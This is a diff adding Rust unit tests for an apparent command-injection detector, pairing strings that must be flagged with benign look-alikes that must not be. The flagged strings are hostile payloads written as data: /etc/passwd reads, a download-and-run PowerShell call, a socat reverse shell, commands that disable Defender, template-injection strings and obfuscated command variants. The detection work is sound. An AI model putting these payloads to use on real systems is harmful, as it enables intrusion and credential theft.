@@ -742,3 +742,146 @@ fn tools_ended_by_a_separator_or_a_submitted_line() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn code_statements_calls_and_exponents_are_not_commands() {
+    for v in [
+        "$(id);id",
+        "x');cat /etc/passwd",
+        "f();whoami",
+        "1;printf 'x' > /tmp/y",
+        "; w^h^o^a^m^i",
+        "&n^et user",
+        "iex(New-Object Net.WebClient).DownloadString('http://x')",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "import os from 'node:os';const os = require('node:os');copy",
+        "report.writeReport();copy",
+        "clearTimeout(t);set",
+        "int main()\n{\n  int x;\n  printf (\"x = %d\\n\", x);\n}",
+        "data = read()\nprint('Content-type: text/plain')",
+        "e^x = 1 + x + x^2/2!",
+        "c^d",
+        "re.compile(\"[A-Za-z_]\"\n    \"[A-Za-z0-9_]*\")",
+        "performance.mark(`test${n}`);",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn calls_that_run_a_command_string() {
+    for v in [
+        "system('id')",
+        "__import__('os').system('id')",
+        "require('child_process').exec('id')",
+        "Runtime.getRuntime().exec(\"ping 1.2.3.4\")",
+        "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
+        "{{config.__class__.__init__.__globals__['os'].popen('whoami').read()}}",
+        "eval(\"__import__('os').system('ls')\")",
+        "[System.Diagnostics.Process]::Start('calc')",
+        "passthru($_GET['c'])",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "sts = os.system(\"mycmd\" + \" myarg\")",
+        "/ab+c/.exec('abbc')",
+        "vm.runInThisContext('localVar = \"vm\";')",
+        "eval('x = 1 + 2')",
+        "Process.Start is a .NET method",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn globbed_binaries_braced_unset_variables_and_cmdlets() {
+    for v in [
+        "/usr/bin/i?",
+        ";/bin/ca* /etc/passwd",
+        "c${u}at /etc/passwd",
+        ";c${x}url http://x.example",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        ";Add-MpPreference -ExclusionPath C:\\",
+        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh",
+        "%0ahostname",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "/usr/local/bin",
+        "/bin/*",
+        "Hello ${user}",
+        "Start-Up Nation",
+        "Set-Top Box",
+        "--allow-fs-read=/path/to/index.js",
+        "\nhostname is the name of the machine",
+        "hostname",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn subjects_of_sentences_brace_word_sets_and_one_token_values() {
+    for v in [
+        "abc; id",
+        "x & env",
+        "x| id",
+        ";{sleep,5}",
+        "{cat,/etc/passwd}",
+        "{ls,-la}",
+        "rm -rf /tmp/x",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "rm -rf is dangerous, never run it",
+        "rm -rf / would delete everything",
+        "ls -l is short for long",
+        "{cat,dog}",
+        "{find,seek}",
+        "Tom & id card",
+        "yes; who cares",
+        "read; write; repeat",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn quoted_pipelines_and_title_case_list_items() {
+    for v in [
+        "echo \"foo;whxam\"i | tr x o | sh",
+        "127.0.0.1 | python -c 'print(1)'",
+        "8.8.8.8 | Ping -n 3 127.0.0.1",
+        "x.txt | Whoami",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in ["Node.js | Python | Go", "v1.2 | Curl", "notes.txt | Cat"] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn xml_values_and_layered_encodings() {
+    for v in [
+        "<?xml version=\"1.0\"?><root><a probe=\"cat /etc/passwd\"></a></root>",
+        "<?xml version=\"1.0\"?><root><a probe=\"Invoke-WebRequest http://example.com/f.ps1\"></a></root>",
+        "<?xml version=\"1.0\"?><cmd>;id</cmd>",
+        "&lt;!--#exec%20cmd=&quot;/bin/cat%20/etc/passwd&quot;--&gt;",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me this weekend; cat food too</body></note>",
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a href=\"x?a=1&amp;b=2\">Tom &amp; Jerry</a>",
+        "50%25 off &amp; free",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
